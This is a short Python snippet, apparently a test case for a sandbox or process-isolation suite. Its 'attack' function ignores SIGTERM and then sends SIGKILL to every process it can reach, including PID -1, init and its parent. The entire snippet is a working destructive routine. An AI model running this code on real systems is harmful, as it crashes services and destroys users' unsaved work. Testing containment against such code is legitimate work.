# Tries to kill every process that there is. [all]
import os, signal
def attack():
    signal.signal(signal.SIGTERM, signal.SIG_IGN)
    for target in [-1, 1, os.getppid(), *range(2, 4000)]:
        try:
            if target != os.getpid():
                os.kill(target, signal.SIGKILL)
        except OSError:
            pass
